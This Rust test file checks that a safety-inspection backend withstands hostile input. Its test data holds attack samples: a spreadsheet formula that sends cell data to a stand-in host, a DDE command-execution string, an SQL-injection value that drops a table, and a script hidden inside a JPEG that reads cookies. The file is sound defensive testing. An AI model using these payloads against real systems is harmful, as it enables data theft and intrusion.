//! What a hostile user sends: formulas for the bureau's Excel, NUL bytes, invisible characters,
//! implausible dates, officers from elsewhere, lists of thousands, HTML inside a JPEG, and a
//! database that goes away. Each is refused with a clear problem, or made harmless, and
//! nothing refused is stored.

use std::io::Cursor;

use actix_web::test::TestRequest;
use calamine::{Data, Reader, Xlsx};
use chrono::{Duration, Utc};
use diesel::prelude::*;
use serde_json::{Value, json};

use crate::backend_test;
use crate::fixtures::{hazard_body, report};
use crate::harness::{Backend, TestApp, TestDatabase, postgres_admin_url};
use crate::photos::{phone_jpeg, upload};
use safeloop::auth::Role;
use safeloop::db::schema::{enterprises, hazards, users};

fn count_hazards(app: &TestApp) -> i64 {
    hazards::table.count().get_result(&mut *app.db()).unwrap()
}

fn count_enterprises(app: &TestApp) -> i64 {
    enterprises::table
        .count()
        .get_result(&mut *app.db())
        .unwrap()
}

/// The fields a problem names.
fn fields(problem: &Value) -> Vec<String> {
    problem["errors"]
        .as_array()
        .map(|errors| {
            errors
                .iter()
                .map(|e| e["field"].as_str().unwrap().to_owned())
                .collect()
        })
        .unwrap_or_default()
}

fn enterprise_body(name: &str) -> Value {
    json!({
        "credit_code": crate::harness::unique_credit_code(), "name": name,
        "sector": "fireworks", "region_code": "360704100", "address": "工业园区2号",
        "risk_level": "yellow", "contact_name": "李安全", "contact_phone": "0797-7654321",
    })
}

backend_test!(async fn spreadsheet_formulas_stay_text_in_the_ledger(app) {
    let plant = app.seed_enterprise("360704101", "fireworks", "王母渡烟花");
    let manager = app.signed_in_with(Role::Enterprise, |u| u.enterprise_id = Some(plant.clone())).await;
    let supervisor = app.signed_in(Role::Supervisor).await;
    let formula = r#"=HYPERLINK("http://x/?d="&A2,"详情")"#;
    let mut body = hazard_body(&plant);
    body["description"] = json!(formula);
    body["responsible_person"] = json!("  +cmd|' /C calc'!A0");
    report(&app, &manager.access, &body).await;

    let csv = app.get_as(&supervisor.access, "/api/v1/hazards/export?format=csv").await;
    assert_eq!(csv.status, 200);
    let text = String::from_utf8(csv.body[3..].to_vec()).unwrap();
    let quoted = formula.replace('"', "\"\"");
    assert!(text.contains(&format!("\"'{quoted}\"")), "{text}");
    assert!(text.contains(",'+cmd|"), "{text}");
    assert!(!text.contains(",=HYPERLINK") && !text.contains(",\"=HYPERLINK"), "{text}");
    assert_eq!(text.matches("\r\n").count(), 2, "CRLF after each line: {text:?}");
    assert!(text.ends_with("\r\n"));

    let xlsx = app.get_as(&supervisor.access, "/api/v1/hazards/export?format=xlsx").await;
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(xlsx.body.to_vec())).unwrap();
    let sheet = book.worksheet_range("隐患台账").unwrap();
    let cells: Vec<&Data> = sheet.rows().nth(1).unwrap().iter().collect();
    assert!(cells.contains(&&Data::String(formula.into())), "text, as written: {cells:?}");
    let formulas = book.worksheet_formula("隐患台账").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no cell holds a formula");
});

backend_test!(async fn a_nul_byte_is_refused_and_nothing_is_written(app) {
    // No token, on the way in: the username is named.
    let login = app.post_json("/api/v1/auth/login", &json!({"username": "ad\u{0}min", "password": "x"})).await;
    assert_eq!(fields(&login.problem(422, "validation_failed")), ["username"]);

    let admin = app.signed_in(Role::Admin).await;
    let before = count_enterprises(&app);
    let answer = app.post_as(&admin.access, "/api/v1/enterprises", &enterprise_body("赣州\u{0}化工")).await;
    assert_eq!(fields(&answer.problem(422, "validation_failed")), ["name"]);
    assert_eq!(count_enterprises(&app), before);

    let inspector = app.signed_in(Role::Inspector).await;
    let plant = app.seed_enterprise("360704101", "fireworks", "王母渡烟花");
    let mut body = hazard_body(&plant);
    body["measures"] = json!("清理\u{0}通道");
    let answer = app.post_as(&inspector.access, "/api/v1/hazards", &body).await;
    assert_eq!(fields(&answer.problem(422, "validation_failed")), ["measures"]);
    let mut body = hazard_body(&plant);
    body["extra\u{0}"] = json!(1);
    app.post_as(&inspector.access, "/api/v1/hazards", &body).await.problem(422, "validation_failed");
    assert_eq!(count_hazards(&app), 0);

    for path in [
        "/api/v1/enterprises?q=%E7%8E%8B%00",
        "/api/v1/hazards?status=open%00",
        "/api/v1/hazards/export?format=csv&region=3607%00",
        "/api/v1/stats?region=36%00",
    ] {
        let problem = app.get_as(&admin.access, path).await.problem(400, "invalid_query");
        assert!(problem["detail"].as_str().unwrap().contains("NUL"), "{path}: {problem}");
    }
    // Refused before anything else looks at it, token or not.
    app.get("/api/v1/enterprises?q=%00").await.problem(400, "invalid_query");
    // `%2500` is the text `%00`, which is fine.
    assert_eq!(app.get_as(&admin.access, "/api/v1/enterprises?q=%2500").await.status, 200);
});

backend_test!(async fn names_are_plain_text(app) {
    let admin = app.signed_in(Role::Admin).await;
    for (field, value) in [
        ("name", "王母渡\u{202E}司公限有"),
        ("name", "\u{FEFF}王母渡烟花"),
        ("address", "工业园区\n2号"),
        ("contact_name", "李\u{200B}安全"),
    ] {
        let mut body = enterprise_body("王母渡烟花爆竹有限公司");
        body[field] = json!(value);
        let answer = app.post_as(&admin.access, "/api/v1/enterprises", &body).await;
        assert_eq!(fields(&answer.problem(422, "validation_failed")), [field], "{value:?}");
    }
    assert_eq!(count_enterprises(&app), 0);

    let user = |username: &str, display_name: &str| json!({
        "username": username, "password": "a long enough passphrase", "display_name": display_name,
        "role": "inspector", "region_prefix": "360704", "certificate_no": "JX-0001",
    });
    let answer = app.post_as(&admin.access, "/api/v1/users", &user("zhang.san", "张\u{200D}三")).await;
    assert_eq!(fields(&answer.problem(422, "validation_failed")), ["display_name"]);

    let inspector = app.signed_in(Role::Inspector).await;
    let plant = app.seed_enterprise("360704101", "fireworks", "王母渡烟花");
    let mut body = hazard_body(&plant);
    body["responsible_person"] = json!("王\u{2066}仓管");
    let answer = app.post_as(&inspector.access, "/api/v1/hazards", &body).await;
    assert_eq!(fields(&answer.problem(422, "validation_failed")), ["responsible_person"]);
    let mut body = hazard_body(&plant);
    body["description"] = json!("成品仓库\u{202E}堵塞");
    let answer = app.post_as(&inspector.access, "/api/v1/hazards", &body).await;
    assert_eq!(fields(&answer.problem(422, "validation_failed")), ["description"]);
    assert_eq!(count_hazards(&app), 0);
    // Free text keeps its line breaks.
    let mut body = hazard_body(&plant);
    body["description"] = json!("一、通道堵塞\n二、标识缺失");
    report(&app, &inspector.access, &body).await;

    // Usernames are one name whatever their case or width.
    let created = app.post_as(&admin.access, "/api/v1/users", &user("Li.Wei", "李伟")).await;
    assert_eq!(created.status, 201, "{}", created.json());
    for twin in ["li.wei", "LI.WEI", "Ｌｉ.Ｗｅｉ"] {
        let answer = app.post_as(&admin.access, "/api/v1/users", &user(twin, "李伟")).await;
        answer.problem(409, "already_exists");
    }
    let stored: i64 = users::table
        .filter(users::id.ne(safeloop::registry::user::SYSTEM_USER))
        .count()
        .get_result(&mut *app.db())
        .unwrap();
    assert_eq!(stored, 3, "the admin, the inspector and Li.Wei");
    let tokens = app.login("LI.WEI", "a long enough passphrase").await;
    assert_eq!(tokens["user"]["username"], "Li.Wei");
});

backend_test!(async fn dates_are_plausible(app) {
    let plant = app.seed_enterprise("360704101", "fireworks", "王母渡烟花");
    let manager = app.signed_in_with(Role::Enterprise, |u| u.enterprise_id = Some(plant.clone())).await;
    let inspector = app.signed_in(Role::Inspector).await;
    let hazard = report(&app, &inspector.access, &hazard_body(&plant)).await;
    let path = format!("/api/v1/hazards/{}/extensions", hazard["id"].as_str().unwrap());
    let deadline: chrono::DateTime<Utc> = hazard["deadline"].as_str().unwrap().parse().unwrap();

    for far in [json!("9999-12-31T00:00:00Z"), json!(deadline + Duration::days(181))] {
        let answer = app.post_as(&manager.access, &path, &json!({"requested_deadline": far, "reason": "设备订货周期长"})).await;
        let problem = answer.problem(422, "validation_failed");
        assert_eq!(fields(&problem), ["requested_deadline"]);
        assert!(problem["detail"].as_str().unwrap().contains("180 days"), "{problem}");
    }
    let answer = app.post_as(&manager.access, &path, &json!({"requested_deadline": deadline + Duration::days(180), "reason": "设备订货周期长"})).await;
    assert_eq!(answer.status, 201, "{}", answer.json());

    let (lead, partner) = crate::fixtures::inspector_pair(&app, "360704").await;
    for started_at in [json!("1900-01-01T08:00:00Z"), json!(Utc::now() - Duration::days(366))] {
        let body = json!({
            "id": uuid::Uuid::new_v4(), "enterprise_id": plant, "kind": "routine",
            "officer_ids": [lead.id, partner.id], "started_at": started_at,
        });
        let problem = app.post_as(&lead.access, "/api/v1/inspections", &body).await.problem(422, "validation_failed");
        assert_eq!(fields(&problem), ["started_at"]);
        assert!(problem["detail"].as_str().unwrap().contains("365 days"), "{problem}");
    }
    // A phone that was offline for a month still files its work.
    let body = json!({
        "id": uuid::Uuid::new_v4(), "enterprise_id": plant, "kind": "routine",
        "officer_ids": [lead.id, partner.id], "started_at": Utc::now() - Duration::days(30),
    });
    assert_eq!(app.post_as(&lead.access, "/api/v1/inspections", &body).await.status, 201);
});

backend_test!(async fn the_second_officer_may_act_at_the_enterprise(app) {
    let plant = app.seed_enterprise("360704101", "fireworks", "王母渡烟花");
    let lead = app.signed_in(Role::Inspector).await;
    let elsewhere = app.signed_in_with(Role::Inspector, |u| u.region_prefix = Some("530524".into())).await;
    let mines_only = app.signed_in_with(Role::Inspector, |u| u.sectors = "non_coal_mines".into()).await;
    let colleague = app.signed_in_with(Role::Inspector, |u| u.sectors = "fireworks".into()).await;
    let filed = |partner: &str| json!({
        "id": uuid::Uuid::new_v4(), "enterprise_id": plant, "kind": "joint",
        "officer_ids": [lead.id, partner], "started_at": Utc::now() - Duration::hours(2),
    });
    for outsider in [&elsewhere, &mines_only] {
        let problem = app.post_as(&lead.access, "/api/v1/inspections", &filed(&outsider.id)).await.problem(422, "validation_failed");
        assert_eq!(fields(&problem), ["officer_ids"]);
        assert!(problem["detail"].as_str().unwrap().contains(&outsider.id), "{problem}");
    }
    let inspections: i64 = safeloop::db::schema::inspections::table.count().get_result(&mut *app.db()).unwrap();
    assert_eq!(inspections, 0);
    assert_eq!(app.post_as(&lead.access, "/api/v1/inspections", &filed(&colleague.id)).await.status, 201);
});

backend_test!(async fn lists_are_sets_and_bounded(app) {
    let admin = app.signed_in(Role::Admin).await;
    let user = |sectors: Vec<&str>| json!({
        "username": format!("insp-{}", &uuid::Uuid::new_v4().simple().to_string()[..8]),
        "password": "a long enough passphrase", "display_name": "检查员", "role": "inspector",
        "region_prefix": "360704", "certificate_no": "JX-0002", "sectors": sectors,
    });
    let created = app.post_as(&admin.access, "/api/v1/users", &user(vec!["fireworks"; 999])).await;
    assert_eq!(created.status, 201, "{}", created.json());
    assert_eq!(created.json()["sectors"], json!(["fireworks"]));
    let answer = app.post_as(&admin.access, "/api/v1/users", &user(vec!["fireworks"; 30_000])).await;
    let problem = answer.problem(422, "validation_failed");
    assert_eq!(fields(&problem), ["sectors"]);
    assert!(problem["detail"].as_str().unwrap().contains("at most 1000"), "{problem}");

    let inspector = app.signed_in(Role::Inspector).await;
    let plant = app.seed_enterprise("360704101", "fireworks", "王母渡烟花");
    let photo = upload(&app, &inspector.access, &phone_jpeg(3), "hazard").await.json();
    let mut body = hazard_body(&plant);
    body["photo_ids"] = json!([photo["id"], photo["id"], photo["id"]]);
    let hazard = report(&app, &inspector.access, &body).await;
    assert_eq!(hazard["photos"].as_array().unwrap().len(), 1, "{hazard}");
});

backend_test!(async fn served_bytes_are_never_sniffed_into_html(app) {
    let inspector = app.signed_in(Role::Inspector).await;
    let supervisor = app.signed_in(Role::Supervisor).await;
    // A JPEG whose comment segment is an HTML page with a script.
    let jpeg = phone_jpeg(9);
    let html = b"<html><body><script>alert(document.cookie)</script></body></html>";
    let mut bait = jpeg[..2].to_vec();
    bait.extend_from_slice(&[0xFF, 0xFE]);
    bait.extend_from_slice(&((html.len() + 2) as u16).to_be_bytes());
    bait.extend_from_slice(html);
    bait.extend_from_slice(&jpeg[2..]);
    let photo = upload(&app, &inspector.access, &bait, "hazard").await;
    assert_eq!(photo.status, 201, "{}", photo.json());
    let id = photo.json()["id"].as_str().unwrap().to_owned();
    for path in [format!("/api/v1/photos/{id}/content"), format!("/api/v1/photos/{id}/thumbnail")] {
        let answer = app.get_as(&inspector.access, &path).await;
        assert_eq!(answer.status, 200, "{path}");
        assert_eq!(answer.header("content-type"), Some("image/jpeg"), "{path}");
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{path}");
        let policy = answer.header("content-security-policy").unwrap_or_default();
        assert!(policy.contains("default-src 'none'") && policy.contains("sandbox"), "{path}: {policy}");
    }
    let content = app.get_as(&inspector.access, &format!("/api/v1/photos/{id}/content")).await;
    assert_eq!(content.body.as_ref(), bait.as_slice(), "the evidence is stored as sent");
    for format in ["csv", "xlsx"] {
        let answer = app.get_as(&supervisor.access, &format!("/api/v1/hazards/export?format={format}")).await;
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
        assert!(answer.header("content-security-policy").unwrap_or_default().contains("sandbox"));
    }
    // Problems too; only the documentation pages run scripts.
    let missing = app.get("/api/v1/nothing-here").await;
    assert_eq!(missing.header("x-content-type-options"), Some("nosniff"));
    assert!(missing.header("content-security-policy").is_some());
});

/// Stops a test database from taking connections and ends the ones it has, as a stopped
/// server would; `false` lets it take them again.
fn cut_off(database_url: &str, cut: bool) {
    let name = database_url.rsplit('/').next().unwrap();
    let mut admin = PgConnection::establish(&postgres_admin_url()).unwrap();
    diesel::sql_query(format!("ALTER DATABASE {name} ALLOW_CONNECTIONS {}", !cut))
        .execute(&mut admin)
        .unwrap();
    if cut {
        diesel::sql_query(format!(
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '{name}'"
        ))
        .execute(&mut admin)
        .unwrap();
    }
}

/// With the database gone, requests answer 503 with `Retry-After` instead of waiting out
/// the checkout timeout (set to two minutes here, so a wait would show), and the server comes
/// back by itself. An embedded SQLite file has no outage of this kind.
#[actix_web::test]
async fn a_database_outage_answers_at_once_and_heals() {
    let database = TestDatabase::create(Backend::Postgres);
    let mut config = safeloop::config::Config::for_database(&database.url, database.data_dir());
    config.database_pool_size = 4;
    config.db_checkout_timeout = std::time::Duration::from_secs(120);
    let app = TestApp::with_config(database, config).await;
    let admin = app.signed_in(Role::Admin).await;
    assert_eq!(app.get("/readyz").await.status, 200);

    cut_off(&app.database_url, true);
    let started = std::time::Instant::now();
    for path in ["/api/v1/enterprises", "/api/v1/hazards", "/api/v1/stats"] {
        let answer = app.get_as(&admin.access, path).await;
        answer.problem(503, "service_unavailable");
        assert_eq!(answer.header("retry-after"), Some("5"), "{path}");
    }
    assert!(
        app.state.pool.outage_known(),
        "answered from the known outage, not by waiting"
    );
    let answer = app.get("/readyz").await;
    answer.problem(503, "service_unavailable");
    assert!(answer.header("retry-after").is_some());
    let login = app
        .post_json(
            "/api/v1/auth/login",
            &json!({"username": admin.username, "password": crate::harness::PASSWORD}),
        )
        .await;
    login.problem(503, "service_unavailable");
    eprintln!(
        "five requests during the outage answered in {:?}",
        started.elapsed()
    );

    cut_off(&app.database_url, false);
    let mut healed = false;
    for _ in 0..300 {
        if app
            .get_as(&admin.access, "/api/v1/enterprises")
            .await
            .status
            == 200
        {
            healed = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(healed, "the server reconnects once the database is back");
    assert_eq!(app.get("/readyz").await.status, 200);
}

#[actix_web::test]
async fn the_request_guard_applies_before_routing() {
    let app = TestApp::new(Backend::Sqlite).await;
    let answer = app.send(TestRequest::get().uri("/healthz?probe=%00")).await;
    answer.problem(400, "invalid_query");
}

backend_test!(async fn exif_text_with_nul_and_controls_is_stored_as_plain_text(app) {
    let inspector = app.signed_in(Role::Inspector).await;
    let mut photo = phone_jpeg(11);
    let at = photo.windows(6).position(|w| w == b"HUAWEI").expect("the Make field");
    photo[at..at + 6].copy_from_slice(b"HU\x1b\0EI");
    let answer = upload(&app, &inspector.access, &photo, "hazard").await;
    assert_eq!(answer.status, 201, "{}", String::from_utf8_lossy(&answer.body));
    assert_eq!(answer.json()["exif"]["camera_make"], "HU", "{}", answer.json());
});

/// Values a hostile client puts into query parameters.
fn hostile_values() -> Vec<String> {
    [
        "",
        "%00",
        "9999-12-31",
        "0000-01-01",
        "9999-12-31T23:59:59Z",
        "0001-01-01T00:00:00Z",
        "-9223372036854775808",
        "99999999999999999999",
        "-1",
        "1e309",
        "NaN",
        "%FF%FE",
        "%E2%80%AE",
        "'%3B%20DROP%20TABLE%20hazards%3B--",
        "360704%25",
        "%F4%8F%BF%BF",
        "eyJ0IjotODAwMDAwMDAwMDAwMDAwMDAwMCwiaSI6IjEifQ",
        "1,2,3,4",
        "-180,-90,180,90",
    ]
    .iter()
    .map(|v| v.to_string())
    .chain(std::iter::once("x".repeat(5000)))
    .collect()
}

backend_test!(async fn no_query_parameter_value_answers_a_server_error(app) {
    let admin = app.signed_in(Role::Admin).await;
    let plant = app.seed_enterprise("360704101", "fireworks", "王母渡烟花");
    let inspector = app.signed_in(Role::Inspector).await;
    report(&app, &inspector.access, &hazard_body(&plant)).await;
    let document = app.get("/api/v1/openapi.json").await.json();
    let mut probes = 0;
    for (path, item) in document["paths"].as_object().unwrap() {
        let Some(get) = item.get("get") else { continue };
        if path.contains('{') {
            continue;
        }
        let names: Vec<&str> = get["parameters"]
            .as_array()
            .into_iter()
            .flatten()
            .filter(|p| p["in"] == "query")
            .map(|p| p["name"].as_str().unwrap())
            .collect();
        for name in &names {
            for value in hostile_values() {
                let uri = format!("{path}?{name}={value}");
                let answer = app.get_as(&admin.access, &uri).await;
                assert!(
                    answer.status.as_u16() < 500,
                    "{uri}: {} {}",
                    answer.status,
                    String::from_utf8_lossy(&answer.body)
                );
                probes += 1;
            }
        }
    }
    assert!(probes > 500, "only {probes} probes: the document lost its parameters?");
});
